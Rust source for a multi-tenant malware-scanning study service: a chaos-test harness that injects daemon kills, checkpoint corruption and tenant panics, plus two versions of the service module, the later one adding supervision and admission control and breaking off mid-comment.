    /// Crawl scale of every tenant's study.
    pub crawl_scale: f64,
    /// Domain scale of every tenant's study.
    pub domain_scale: f64,
    /// Surf slots per checkpoint segment.
    pub checkpoint_every: u64,
    /// Checkpoint rounds per scheduling slice.
    pub rounds_per_slice: u64,
    /// Storage-fault profile armed for the storm *and* the drain — the
    /// disks stay bad even after the scheduling chaos stops.
    pub disk_fault_profile: DiskFaultProfile,
}

impl Default for StormConfig {
    fn default() -> StormConfig {
        StormConfig {
            chaos_seed: 0xbad5_eed0,
            actions: 80,
            tenants: 3,
            study_seed: 2016,
            crawl_scale: 0.0002,
            domain_scale: 0.03,
            checkpoint_every: 7,
            rounds_per_slice: 1,
            disk_fault_profile: DiskFaultProfile::harsh(),
        }
    }
}

impl StormConfig {
    /// The study config tenant `t` submits — repeatedly, across kills
    /// and resubmissions, so it must be a pure function of the storm.
    pub fn study_config(&self, tenant: usize) -> StudyConfig {
        StudyConfig::builder()
            .seed(self.study_seed + tenant as u64)
            .crawl_scale(self.crawl_scale)
            .domain_scale(self.domain_scale)
            .checkpoint_every(self.checkpoint_every)
            .build()
            .expect("storm study config is valid")
    }

    /// The fault-free reference config for tenant `t`: same study, no
    /// checkpointing (batch `Study::run` shape).
    pub fn batch_config(&self, tenant: usize) -> StudyConfig {
        let mut config = self.study_config(tenant);
        config.checkpoint_every = None;
        config
    }
}

/// What one storm did, and what survived it.
#[derive(Debug, Clone)]
pub struct StormReport {
    /// Daemon kill/reopen cycles (service dropped mid-flight, reopened
    /// over the same root, every tenant resubmitted).
    pub kills: u32,
    /// Checkpoint files corrupted on disk mid-run.
    pub corruptions: u32,
    /// Tenant slices panicked under supervision (and were contained).
    pub panics: u32,
    /// Final `ckpt.quarantined` counter: corrupted generations that
    /// were detected and moved aside, never silently read.
    pub quarantined: u64,
    /// Final `ckpt.rollback` counter: loads that walked back past a
    /// bad generation to an older intact one.
    pub rollbacks: u64,
    /// Every tenant's final export JSON, in tenant order. Callers
    /// compare these against their own fault-free batch runs.
    pub exports: Vec<String>,
}

/// xorshift64 — the one RNG behind the whole storm.
struct Chaos(u64);

impl Chaos {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    fn pick(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

fn open_service(root: &Path, config: &StormConfig) -> Service {
    Service::open(root)
        .expect("storm service root opens")
        .with_rounds_per_slice(config.rounds_per_slice)
        .with_disk_fault_profile(config.disk_fault_profile.clone())
}

fn submit_all(service: &Service, config: &StormConfig) -> Vec<u64> {
    (0..config.tenants)
        .map(|t| {
            service
                .submit(&format!("t{t}"), config.study_config(t))
                .expect("storm submit")
        })
        .collect()
}

/// The newest surviving checkpoint file of a tenant's study dirs
/// (lexicographic max — generation file names are zero-padded rounds).
fn newest_ckpt(root: &Path, tenant: usize) -> Option<PathBuf> {
    let tenant_dir = root.join(format!("t{tenant}"));
    let mut candidates = Vec::new();
    for study_dir in std::fs::read_dir(tenant_dir).ok()? {
        let study_dir = study_dir.ok()?.path();
        if !study_dir.is_dir() {
            continue;
        }
        for entry in std::fs::read_dir(&study_dir).ok()? {
            let path = entry.ok()?.path();
            let Some(name) = path.file_name().map(|n| n.to_string_lossy().into_owned())
            else {
                continue;
            };
            if path.is_file() && name.starts_with("ckpt-") && name.ends_with(".slumckpt") {
                candidates.push(path);
            }
        }
    }
    candidates.sort();
    candidates.pop()
}

/// Flips a mid-file byte — breaks the checkpoint CRC whatever it hits.
fn corrupt(path: &Path) {
    let mut bytes = std::fs::read(path).expect("read checkpoint");
    assert!(!bytes.is_empty(), "checkpoint file must not be empty");
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0xff;
    std::fs::write(path, bytes).expect("write corruption");
}

/// Runs one storm over `root` and returns what happened. The storm
/// phase throws [`StormConfig::actions`] seeded fault actions; the
/// drain phase then runs every tenant to completion (resubmitting
/// poisoned ones) with the disk-fault profile still armed.
///
/// # Panics
///
/// Panics when a containment invariant breaks: a tenant panic escapes
/// supervision, a tenant fails to drain after the storm, a fault class
/// never fires, or a corruption goes unquarantined. `root` is left in
/// place for post-mortems on panic; callers own its cleanup on
/// success.
pub fn run_storm(root: &Path, config: &StormConfig) -> StormReport {
    let mut service = open_service(root, config);
    let mut ids = submit_all(&service, config);
    let mut rng = Chaos(config.chaos_seed);
    let (mut kills, mut corruptions, mut panics) = (0u32, 0u32, 0u32);

    for iter in 1..=config.actions {
        // Forced events guarantee every fault class fires even when the
        // random schedule would converge without it.
        let action = if kills == 0 && iter >= config.actions / 8 {
            1
        } else if corruptions == 0 && iter >= config.actions / 4 {
            2
        } else if panics == 0 && iter >= (config.actions * 3) / 8 {
            3
        } else {
            match rng.pick(12) {
                0 => 1, // kill
                1 => 2, // corrupt
                2 => 3, // panic
                _ => 0, // advance
            }
        };
        match action {
            // Advance one random tenant one supervised slice.
            0 => {
                let t = rng.pick(config.tenants);
                service.advance(ids[t]).expect("advance");
            }
            // kill -9 the daemon: drop the service, reopen over the
            // same root, resubmit every tenant (same config → same
            // checkpoint dir → resume).
            1 => {
                drop(service);
                service = open_service(root, config);
                ids = submit_all(&service, config);
                kills += 1;
            }
            // Corrupt the newest checkpoint, then force the reload
            // that must quarantine it and roll back a generation.
            2 => {
                let t = rng.pick(config.tenants);
                if let Some(path) = newest_ckpt(root, t) {
                    corrupt(&path);
                    corruptions += 1;
                    if service.status(ids[t]).expect("status").state != "running" {
                        ids[t] = service
                            .submit(&format!("t{t}"), config.study_config(t))
                            .expect("resubmit");
                    }
                    service.advance(ids[t]).expect("advance over corruption");
                }
            }
            // Panic a tenant's next slice; supervision must contain it
            // to that job, and the resubmitted study resumes from the
            // intact checkpoints.
            3 => {
                let t = rng.pick(config.tenants);
                if service.status(ids[t]).expect("status").state == "running" {
                    service.chaos_panic_next_slice(ids[t]).expect("arm chaos hook");
                    let status = service.advance(ids[t]).expect("supervised advance");
                    assert_eq!(status.state, "poisoned", "panic must be contained");
                    panics += 1;
                    ids[t] = service
                        .submit(&format!("t{t}"), config.study_config(t))
                        .expect("resubmit");
                }
            }
            _ => unreachable!(),
        }
    }

    // The storm passes: drain every tenant to done. Poisoned/stalled
    // jobs are resubmitted (same config → same checkpoint dir → resume
    // from the newest intact generation).
    for t in 0..config.tenants {
        for drained in 1.. {
            assert!(drained < 500, "t{t} failed to drain after the storm");
            match service.status(ids[t]).expect("status").state.as_str() {
                "done" => break,
                "running" => {
                    service.advance(ids[t]).expect("advance");
                }
                _ => {
                    ids[t] = service
                        .submit(&format!("t{t}"), config.study_config(t))
                        .expect("resubmit");
                }
            }
        }
    }

    assert!(
        kills >= 1 && corruptions >= 1 && panics >= 1,
        "every fault class must fire (kills {kills}, corruptions {corruptions}, \
         panics {panics})"
    );
    // The storm left scars where they belong: the quarantine counter
    // proves corruption was detected and contained, not silently read.
    let metrics = service.metrics();
    let quarantined = metrics.counter("ckpt.quarantined");
    assert!(quarantined >= 1, "corrupted checkpoints must be quarantined, not trusted");

    let exports = (0..config.tenants)
        .map(|t| {
            service
                .export(ids[t])
                .expect("known study")
                .expect("storm survivor has an export")
        })
        .collect();
    StormReport {
        kills,
        corruptions,
        panics,
        quarantined,
        rollbacks: metrics.counter("ckpt.rollback"),
        exports,
    }
}
