//! The in-process study service: job table, cooperative scheduler and
//! the shared cross-tenant caches.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};

use malware_slums::export;
use malware_slums::{CheckpointError, ScanCaches, Study, StudyConfig};
use slum_detect::hash::fnv1a;
use slum_detect::{CacheStats, ShardedCache};
use slum_obs::{MetricsSnapshot, Registry, TenantRegistries};

use crate::proto::{Request, Response};

/// Checkpoint rounds one scheduling slice advances a study by. One
/// round is the finest interleaving (maximal tenant fairness); the
/// daemon uses a few rounds per slice to amortize web re-construction.
pub const DEFAULT_ROUNDS_PER_SLICE: u64 = 1;

/// Service-level failure.
#[derive(Debug)]
pub enum ServeError {
    /// Checkpoint scheduler failure while advancing a study.
    Checkpoint(CheckpointError),
    /// No study with the given id.
    UnknownStudy(u64),
    /// Invalid submit configuration.
    Config(String),
    /// Filesystem failure managing the study root.
    Io(std::io::Error),
}

impl std::fmt::Display for ServeError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ServeError::Checkpoint(e) => write!(f, "checkpoint: {e}"),
            ServeError::UnknownStudy(id) => write!(f, "unknown study {id}"),
            ServeError::Config(msg) => write!(f, "config: {msg}"),
            ServeError::Io(e) => write!(f, "io: {e}"),
        }
    }
}

impl std::error::Error for ServeError {}

impl From<CheckpointError> for ServeError {
    fn from(e: CheckpointError) -> Self {
        ServeError::Checkpoint(e)
    }
}

impl From<std::io::Error> for ServeError {
    fn from(e: std::io::Error) -> Self {
        ServeError::Io(e)
    }
}

/// What a finished study leaves behind: the artifacts the protocol can
/// answer with, not the study itself (the web and corpus are dropped —
/// their distilled verdicts live on in the shared verdict index).
struct FinishedStudy {
    export: String,
    digest: String,
    records: u64,
    malicious_regular: u64,
    sample_url: Option<String>,
}

/// The per-study lifecycle.
enum JobState {
    Running,
    Done(FinishedStudy),
    Failed(String),
}

struct Job {
    id: u64,
    tenant: String,
    config: StudyConfig,
    dir: PathBuf,
    fingerprint: String,
    slices: u64,
    in_flight: bool,
    state: JobState,
}

/// A study's externally visible status.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StudyStatus {
    /// Study id.
    pub id: u64,
    /// Owning tenant.
    pub tenant: String,
    /// `running`, `done` or `failed`.
    pub state: String,
    /// Scheduling slices executed so far.
    pub slices: u64,
    /// Export-JSON digest, once done.
    pub digest: Option<String>,
    /// Crawled records, once done.
    pub records: Option<u64>,
    /// Malicious regular records, once done.
    pub malicious_regular: Option<u64>,
    /// A canonical URL the study scanned (its first regular record) —
    /// a guaranteed-known probe for `query-verdict` clients.
    pub sample_url: Option<String>,
    /// Failure message, when failed.
    pub error: Option<String>,
}

/// The resident multi-tenant study service.
///
/// Studies are advanced cooperatively: each [`Service::advance`] call
/// runs one bounded slice of one study's crawl through
/// [`Study::advance_checkpointed`], so many tenants' studies interleave
/// on one thread (or a few) without preemption. All studies with the
/// same web fingerprint scan through one shared [`ScanCaches`], and
/// every completed study publishes its per-URL verdicts into a shared
/// index — a URL scanned for one tenant answers instantly for another.
///
/// Determinism: artifacts of a service-run study are bit-identical to
/// the same config run through batch `repro`, no matter how its slices
/// interleave with other tenants' (see `tests/serve_determinism.rs`).
pub struct Service {
    root: PathBuf,
    rounds_per_slice: u64,
    jobs: Mutex<Vec<Job>>,
    cache_groups: Mutex<BTreeMap<String, Arc<ScanCaches>>>,
    verdicts: ShardedCache<bool>,
    tenants: TenantRegistries,
    obs: Registry,
}

impl Service {
    /// Opens a service whose studies checkpoint under `root` (created
    /// if missing). A service re-opened over the same root resumes
    /// interrupted studies from their checkpoints on resubmission.
    ///
    /// # Errors
    ///
    /// Fails when the root cannot be created.
    pub fn open(root: impl Into<PathBuf>) -> Result<Service, ServeError> {
        let root = root.into();
        std::fs::create_dir_all(&root)?;
        Ok(Service {
            root,
            rounds_per_slice: DEFAULT_ROUNDS_PER_SLICE,
            jobs: Mutex::new(Vec::new()),
            cache_groups: Mutex::new(BTreeMap::new()),
            verdicts: ShardedCache::new(),
            tenants: TenantRegistries::new(),
            obs: Registry::new(),
        })
    }

    /// Sets the checkpoint rounds per scheduling slice (min 1).
    pub fn with_rounds_per_slice(mut self, rounds: u64) -> Service {
        self.rounds_per_slice = rounds.max(1);
        self
    }

    /// Submits a study for `tenant`. The study's checkpoint directory
    /// is a pure function of (tenant, config), so resubmitting the same
    /// study after a daemon restart resumes from whatever checkpoints
    /// the previous incarnation left behind.
    ///
    /// # Errors
    ///
    /// Rejects configs without `checkpoint_every` (the scheduler's
    /// preemption grain) and propagates filesystem failures.
    pub fn submit(&self, tenant: &str, config: StudyConfig) -> Result<u64, ServeError> {
        if config.checkpoint_every.is_none() {
            return Err(ServeError::Config(
                "daemon studies need checkpoint_every (the scheduling grain)".to_string(),
            ));
        }
        let fingerprint = config.cache_fingerprint();
        let dir_key = format!(
            "{fingerprint}&scan_fault={}&crawl_fault={}&every={}",
            config.fault_profile.name,
            config.crawl_fault_profile.name,
            config.checkpoint_every.unwrap_or(0),
        );
        let dir = self
            .root
            .join(sanitize(tenant))
            .join(format!("{:016x}", fnv1a(dir_key.as_bytes())));
        std::fs::create_dir_all(&dir)?;
        let mut jobs = self.jobs.lock().expect("job table poisoned");
        let id = jobs.len() as u64 + 1;
        jobs.push(Job {
            id,
            tenant: tenant.to_string(),
            config,
            dir,
            fingerprint,
            slices: 0,
            in_flight: false,
            state: JobState::Running,
        });
        self.obs.counter("serve.studies.submitted").inc();
        self.obs.gauge("serve.studies.running").set(running_count(&jobs) as i64);
        Ok(id)
    }

    /// The shared cache set for a web fingerprint, created on first
    /// use. Studies with equal fingerprints get the same `Arc`.
    fn cache_group(&self, fingerprint: &str) -> Arc<ScanCaches> {
        let mut groups = self.cache_groups.lock().expect("cache groups poisoned");
        Arc::clone(
            groups.entry(fingerprint.to_string()).or_insert_with(|| Arc::new(ScanCaches::new())),
        )
    }

    /// Aggregate stats of the shared scan caches for `fingerprint`
    /// (`None` when no study with that fingerprint was submitted).
    pub fn cache_group_stats(
        &self,
        fingerprint: &str,
    ) -> Option<[(&'static str, CacheStats); 4]> {
        self.cache_groups
            .lock()
            .expect("cache groups poisoned")
            .get(fingerprint)
            .map(|c| c.stats())
    }

    /// Advances study `id` by one scheduling slice. Returns the status
    /// after the slice; completed or failed studies return immediately
    /// without work.
    ///
    /// # Errors
    ///
    /// Unknown ids error; scheduler failures are recorded in the
    /// study's state (and reported there), not returned.
    pub fn advance(&self, id: u64) -> Result<StudyStatus, ServeError> {
        // Claim the slice under the lock, run it outside (a slice does
        // real crawl/scan work — status queries must not block on it).
        let (config, dir, fingerprint, tenant) = {
            let mut jobs = self.jobs.lock().expect("job table poisoned");
            let job = job_mut(&mut jobs, id)?;
            if !matches!(job.state, JobState::Running) || job.in_flight {
                return status_of(job);
            }
            job.in_flight = true;
            (job.config.clone(), job.dir.clone(), job.fingerprint.clone(), job.tenant.clone())
        };

        let caches = self.cache_group(&fingerprint);
        let outcome =
            Study::advance_checkpointed(&config, &dir, self.rounds_per_slice, Some(caches));
        self.obs.counter("serve.slices.total").inc();

        let mut jobs = self.jobs.lock().expect("job table poisoned");
        let job = job_mut(&mut jobs, id)?;
        job.in_flight = false;
        job.slices += 1;
        match outcome {
            Ok(None) => {} // crawl still in progress; next slice continues
            Ok(Some(study)) => {
                match self.finish(&tenant, &fingerprint, &study) {
                    Ok(finished) => job.state = JobState::Done(finished),
                    Err(e) => job.state = JobState::Failed(e.to_string()),
                }
                self.obs.counter("serve.studies.completed").inc();
            }
            Err(e) => job.state = JobState::Failed(e.to_string()),
        }
        self.obs.gauge("serve.studies.running").set(running_count(&jobs) as i64);
        status_of(job_mut(&mut jobs, id)?)
    }

    /// Publishes a completed study: verdicts into the shared index,
    /// metrics into the tenant's registry, artifacts distilled for the
    /// protocol.
    fn finish(
        &self,
        tenant: &str,
        fingerprint: &str,
        study: &Study,
    ) -> Result<FinishedStudy, serde_json::Error> {
        let mut malicious_regular = 0u64;
        let mut sample_url = None;
        for (record, outcome) in study.regular_pairs() {
            malicious_regular += u64::from(outcome.malicious);
            let url = record.url.canonical();
            self.verdicts
                .get_or_insert_with(&format!("{fingerprint}#{url}"), || outcome.malicious);
            sample_url.get_or_insert(url);
        }
        self.tenants.absorb(tenant, &study.metrics());
        let export = export::to_json(study)?;
        let digest = format!("{:016x}", fnv1a(export.as_bytes()));
        Ok(FinishedStudy {
            export,
            digest,
            records: study.store.len() as u64,
            malicious_regular,
            sample_url,
        })
    }

    /// One round-robin pass: advances every running study one slice.
    /// Returns how many studies are still running afterwards.
    ///
    /// # Errors
    ///
    /// Propagates unknown-id errors (impossible from the internal id
    /// list — jobs are never removed).
    pub fn step(&self) -> Result<usize, ServeError> {
        let ids: Vec<u64> = {
            let jobs = self.jobs.lock().expect("job table poisoned");
            jobs.iter()
                .filter(|j| matches!(j.state, JobState::Running) && !j.in_flight)
                .map(|j| j.id)
                .collect()
        };
        for id in ids {
            self.advance(id)?;
        }
        let jobs = self.jobs.lock().expect("job table poisoned");
        Ok(running_count(&jobs))
    }

    /// Runs the scheduler until every submitted study completes.
    ///
    /// # Errors
    ///
    /// Propagates [`Service::step`] failures.
    pub fn run_to_completion(&self) -> Result<(), ServeError> {
        while self.step()? > 0 {}
        Ok(())
    }

    /// The status of study `id`.
    ///
    /// # Errors
    ///
    /// Unknown ids error.
    pub fn status(&self, id: u64) -> Result<StudyStatus, ServeError> {
        let mut jobs = self.jobs.lock().expect("job table poisoned");
        status_of(job_mut(&mut jobs, id)?)
    }

    /// The export JSON of a completed study.
    ///
    /// # Errors
    ///
    /// Unknown ids error; running or failed studies return `None`.
    pub fn export(&self, id: u64) -> Result<Option<String>, ServeError> {
        let jobs = self.jobs.lock().expect("job table poisoned");
        let job =
            jobs.iter().find(|j| j.id == id).ok_or(ServeError::UnknownStudy(id))?;
        Ok(match &job.state {
            JobState::Done(f) => Some(f.export.clone()),
            _ => None,
        })
    }

    /// Looks up a URL's verdict in the shared index through study
    /// `id`'s web fingerprint. `Some(malicious)` when any completed
    /// study of the same web scanned the URL — including another
    /// tenant's — `None` otherwise.
    ///
    /// # Errors
    ///
    /// Unknown ids error.
    pub fn query_verdict(&self, id: u64, url: &str) -> Result<Option<bool>, ServeError> {
        let fingerprint = {
            let jobs = self.jobs.lock().expect("job table poisoned");
            jobs.iter()
                .find(|j| j.id == id)
                .ok_or(ServeError::UnknownStudy(id))?
                .fingerprint
                .clone()
        };
        self.obs.counter("serve.verdict.queries").inc();
        let verdict = self.verdicts.get(&format!("{fingerprint}#{url}"));
        match verdict {
            Some(_) => self.obs.counter("serve.verdict.hits").inc(),
            None => self.obs.counter("serve.verdict.misses").inc(),
        }
        Ok(verdict)
    }

    /// The service-wide metrics snapshot: every tenant's study metrics
    /// namespaced `tenant.<name>.*` plus the bare cross-tenant rollup
    /// (see [`TenantRegistries::global_snapshot`]), merged with the
    /// service's own `serve.*` counters.
    pub fn metrics(&self) -> MetricsSnapshot {
        let merged = Registry::new();
        merged.absorb(&self.tenants.global_snapshot());
        merged.absorb(&self.obs.snapshot());
        merged.snapshot()
    }

    /// Dispatches one protocol request (the shared front end behind the
    /// TCP daemon and any in-process embedding).
    pub fn handle(&self, req: &Request) -> Response {
        match req.op.as_str() {
            "submit-study" => {
                let config = match req.study_config() {
                    Ok(c) => c,
                    Err(e) => return Response::failure(&req.op, e),
                };
                match self.submit(&req.tenant, config) {
                    Ok(id) => {
                        let mut r = Response::success(&req.op);
                        r.study = Some(id);
                        r.tenant = Some(req.tenant.clone());
                        r
                    }
                    Err(e) => Response::failure(&req.op, e),
                }
            }
            "study-status" => {
                let Some(id) = req.study else {
                    return Response::failure(&req.op, "study-status needs `study`");
                };
                match self.status(id) {
                    Ok(status) => {
                        let mut r = Response::success(&req.op);
                        r.study = Some(status.id);
                        r.tenant = Some(status.tenant);
                        r.state = Some(status.state.clone());
                        r.slices = Some(status.slices);
                        r.digest = status.digest;
                        r.records = status.records;
                        r.malicious_regular = status.malicious_regular;
                        r.sample_url = status.sample_url;
                        r.error = status.error;
                        if req.include_export {
                            r.export = self.export(id).ok().flatten();
                        }
                        r
                    }
                    Err(e) => Response::failure(&req.op, e),
                }
            }
            "query-verdict" => {
                let (Some(id), Some(url)) = (req.study, req.url.as_deref()) else {
                    return Response::failure(&req.op, "query-verdict needs `study` and `url`");
                };
                match self.query_verdict(id, url) {
                    Ok(verdict) => {
                        let mut r = Response::success(&req.op);
                        r.study = Some(id);
                        r.known = Some(verdict.is_some());
                        r.malicious = verdict;
                        r
                    }
                    Err(e) => Response::failure(&req.op, e),
                }
            }
            "stream-metrics" => {
                let mut r = Response::success(&req.op);
                r.metrics = Some(self.metrics().to_json());
                r
            }
            "shutdown" => Response::success(&req.op),
            other => Response::failure(other, format!("unknown op `{other}`")),
        }
    }
}

fn running_count(jobs: &[Job]) -> usize {
    jobs.iter().filter(|j| matches!(j.state, JobState::Running)).count()
}

fn job_mut<'j>(jobs: &'j mut [Job], id: u64) -> Result<&'j mut Job, ServeError> {
    jobs.iter_mut().find(|j| j.id == id).ok_or(ServeError::UnknownStudy(id))
}

fn status_of(job: &mut Job) -> Result<StudyStatus, ServeError> {
    let (state, digest, records, malicious_regular, sample_url, error) = match &job.state {
        JobState::Running => ("running", None, None, None, None, None),
        JobState::Done(f) => (
            "done",
            Some(f.digest.clone()),
            Some(f.records),
            Some(f.malicious_regular),
            f.sample_url.clone(),
            None,
        ),
        JobState::Failed(e) => ("failed", None, None, None, None, Some(e.clone())),
    };
    Ok(StudyStatus {
        id: job.id,
        tenant: job.tenant.clone(),
        state: state.to_string(),
        slices: job.slices,
        digest,
        records,
        malicious_regular,
        sample_url,
        error,
    })
}

/// Tenant names become path components; keep them boring.
fn sanitize(tenant: &str) -> String {
    let cleaned: String = tenant
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() || c == '-' || c == '_' { c } else { '_' })
        .collect();
    if cleaned.is_empty() {
        "default".to_string()
    } else {
        cleaned
    }
}
