//! The in-process study service: job table, cooperative scheduler,
//! shared cross-tenant caches, tenant supervision and admission
//! control.
//!
//! # Supervision
//!
//! Every scheduling slice runs under `catch_unwind`: a panicking
//! tenant's study transitions to the `poisoned` state and the scheduler
//! skips it from then on — the panic never crosses a lock boundary, so
//! `status`/`metrics` keep answering for every other tenant. A study
//! that exceeds the configured slice budget transitions to `stalled`
//! the same way. All internal locks recover from poisoning
//! (`lock_recover`): even a panic at an unexpected point degrades one
//! job, not the service.
//!
//! # Admission control
//!
//! [`Service::handle`] enforces a per-tenant in-flight request cap;
//! requests over the cap get an explicit `overloaded` response carrying
//! `retry_after_ms` instead of queueing without bound. The TCP daemon
//! adds a connection cap on top (see `daemon.rs`). Shed work is counted
//! under `serve.shed.*` — always registered, so clean runs export
//! explicit zeros.

use std::collections::BTreeMap;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::PathBuf;
use std::sync::{Arc, Mutex, MutexGuard};

use malware_slums::export;
use malware_slums::{CheckpointError, DiskFaultProfile, ScanCaches, Study, StudyConfig};
use slum_detect::hash::fnv1a;
use slum_detect::{CacheStats, ShardedCache};
use slum_obs::{MetricsSnapshot, Registry, TenantRegistries};

use crate::proto::{Request, Response};

/// Checkpoint rounds one scheduling slice advances a study by. One
/// round is the finest interleaving (maximal tenant fairness); the
/// daemon uses a few rounds per slice to amortize web re-construction.
pub const DEFAULT_ROUNDS_PER_SLICE: u64 = 1;

/// Default per-tenant cap on concurrently handled protocol requests.
pub const DEFAULT_MAX_INFLIGHT_PER_TENANT: usize = 8;

/// Default `retry_after_ms` hint sent with `overloaded` responses.
pub const DEFAULT_RETRY_AFTER_MS: u64 = 25;

/// Locks a mutex, recovering from poisoning: a panic that died inside
/// the critical section (already contained by the slice supervisor)
/// must never wedge `status`/`metrics` for the surviving tenants. The
/// guarded data are simple state tables kept consistent by
/// single-field writes, so the recovered view is always usable.
fn lock_recover<T>(mutex: &Mutex<T>) -> MutexGuard<'_, T> {
    mutex.lock().unwrap_or_else(std::sync::PoisonError::into_inner)
}

/// Renders a `catch_unwind` payload into the panic's message.
fn panic_message(payload: Box<dyn std::any::Any + Send>) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "panic with non-string payload".to_string()
    }
}

/// Service-level failure.
#[derive(Debug)]
pub enum ServeError {
    /// Checkpoint scheduler failure while advancing a study.
    Checkpoint(CheckpointError),
    /// No study with the given id.
    UnknownStudy(u64),
    /// Invalid submit configuration.
    Config(String),
    /// Filesystem failure managing the study root.
    Io(std::io::Error),
}

impl std::fmt::Display for ServeError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ServeError::Checkpoint(e) => write!(f, "checkpoint: {e}"),
            ServeError::UnknownStudy(id) => write!(f, "unknown study {id}"),
            ServeError::Config(msg) => write!(f, "config: {msg}"),
            ServeError::Io(e) => write!(f, "io: {e}"),
        }
    }
}

impl std::error::Error for ServeError {}

impl From<CheckpointError> for ServeError {
    fn from(e: CheckpointError) -> Self {
        ServeError::Checkpoint(e)
    }
}

impl From<std::io::Error> for ServeError {
    fn from(e: std::io::Error) -> Self {
        ServeError::Io(e)
    }
}

/// What a finished study leaves behind: the artifacts the protocol can
/// answer with, not the study itself (the web and corpus are dropped —
/// their distilled verdicts live on in the shared verdict index).
struct FinishedStudy {
    export: String,
    digest: String,
    records: u64,
    malicious_regular: u64,
    sample_url: Option<String>,
}

/// The per-study lifecycle. `Poisoned` and `Stalled` are supervision
/// quarantine states: the scheduler skips such jobs, their checkpoints
/// stay on disk, and resubmitting the same (tenant, config) resumes
/// from where the last intact checkpoint left off.
enum JobState {
    Running,
    Done(FinishedStudy),
    Failed(String),
    /// The study's slice panicked; the panic was contained here.
    Poisoned(String),
    /// The study exceeded the service's slice budget.
    Stalled(String),
}

struct Job {
    id: u64,
    tenant: String,
    config: StudyConfig,
    dir: PathBuf,
    fingerprint: String,
    slices: u64,
    in_flight: bool,
    /// Chaos hook: the next claimed slice panics inside the supervised
    /// region (see [`Service::chaos_panic_next_slice`]).
    panic_next_slice: bool,
    state: JobState,
}

/// A study's externally visible status.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StudyStatus {
    /// Study id.
    pub id: u64,
    /// Owning tenant.
    pub tenant: String,
    /// `running`, `done`, `failed`, `poisoned` or `stalled`.
    pub state: String,
    /// Scheduling slices executed so far.
    pub slices: u64,
    /// Export-JSON digest, once done.
    pub digest: Option<String>,
    /// Crawled records, once done.
    pub records: Option<u64>,
    /// Malicious regular records, once done.
    pub malicious_regular: Option<u64>,
    /// A canonical URL the study scanned (its first regular record) —
    /// a guaranteed-known probe for `query-verdict` clients.
    pub sample_url: Option<String>,
    /// Failure message, when failed.
    pub error: Option<String>,
}

/// The resident multi-tenant study service.
///
/// Studies are advanced cooperatively: each [`Service::advance`] call
/// runs one bounded slice of one study's crawl through
/// [`Study::advance_checkpointed`], so many tenants' studies interleave
/// on one thread (or a few) without preemption. All studies with the
/// same web fingerprint scan through one shared [`ScanCaches`], and
/// every completed study publishes its per-URL verdicts into a shared
/// index — a URL scanned for one tenant answers instantly for another.
///
/// Determinism: artifacts of a service-run study are bit-identical to
/// the same config run through batch `repro`, no matter how its slices
/// interleave with other tenants' (see `tests/serve_determinism.rs`).
pub struct Service {
    root: PathBuf,
    rounds_per_slice: u64,
    max_slices: Option<u64>,
    max_inflight_per_tenant: usize,
    retry_after_ms: u64,
    disk_fault_override: Option<DiskFaultProfile>,
    jobs: Mutex<Vec<Job>>,
    inflight: Mutex<BTreeMap<String, usize>>,
    cache_groups: Mutex<BTreeMap<String, Arc<ScanCaches>>>,
    verdicts: ShardedCache<bool>,
    tenants: TenantRegistries,
    obs: Registry,
}

/// RAII token for one admitted request; releases the tenant's in-flight
/// slot on drop.
pub struct InflightGuard<'s> {
    service: &'s Service,
    tenant: String,
}

impl Drop for InflightGuard<'_> {
    fn drop(&mut self) {
        let mut inflight = lock_recover(&self.service.inflight);
        if let Some(n) = inflight.get_mut(&self.tenant) {
            *n = n.saturating_sub(1);
            if *n == 0 {
                inflight.remove(&self.tenant);
            }
        }
    }
}

impl Service {
    /// Opens a service whose studies checkpoint under `root` (created
    /// if missing). A service re-opened over the same root resumes
    /// interrupted studies from their checkpoints on resubmission.
    ///
    /// # Errors
    ///
    /// Fails when the root cannot be created.
    pub fn open(root: impl Into<PathBuf>) -> Result<Service, ServeError> {
        let root = root.into();
        std::fs::create_dir_all(&root)?;
        let obs = Registry::new();
        // Always-registered zeros: clean runs export these explicitly
        // (CI asserts their presence) rather than as absent keys.
        for name in [
            "serve.shed.requests",
            "serve.shed.connections",
            "serve.tenants.poisoned",
            "serve.tenants.stalled",
            "ckpt.quarantined",
        ] {
            obs.counter(name).add(0);
        }
        Ok(Service {
            root,
            rounds_per_slice: DEFAULT_ROUNDS_PER_SLICE,
            max_slices: None,
            max_inflight_per_tenant: DEFAULT_MAX_INFLIGHT_PER_TENANT,
            retry_after_ms: DEFAULT_RETRY_AFTER_MS,
            disk_fault_override: None,
            jobs: Mutex::new(Vec::new()),
            inflight: Mutex::new(BTreeMap::new()),
            cache_groups: Mutex::new(BTreeMap::new()),
            verdicts: ShardedCache::new(),
            tenants: TenantRegistries::new(),
            obs,
        })
    }

    /// Sets the checkpoint rounds per scheduling slice (min 1).
    pub fn with_rounds_per_slice(mut self, rounds: u64) -> Service {
        self.rounds_per_slice = rounds.max(1);
        self
    }

    /// Caps the scheduling slices any one study may consume; a study
    /// still running at the cap transitions to `stalled` and stops
    /// being scheduled (its checkpoints remain for resubmission).
    /// `None` (the default) never stalls.
    pub fn with_max_slices(mut self, max: Option<u64>) -> Service {
        self.max_slices = max;
        self
    }

    /// Sets the per-tenant in-flight request cap (min 1).
    pub fn with_max_inflight_per_tenant(mut self, cap: usize) -> Service {
        self.max_inflight_per_tenant = cap.max(1);
        self
    }

    /// Sets the `retry_after_ms` hint sent with `overloaded` responses.
    pub fn with_retry_after_ms(mut self, ms: u64) -> Service {
        self.retry_after_ms = ms;
        self
    }

    /// Forces every submitted study onto `profile` for checkpoint
    /// storage-fault injection — the operator chaos override behind
    /// `repro serve --disk-fault-profile`. Disk faults never change
    /// study artifacts, so tenants cannot observe the override in their
    /// results.
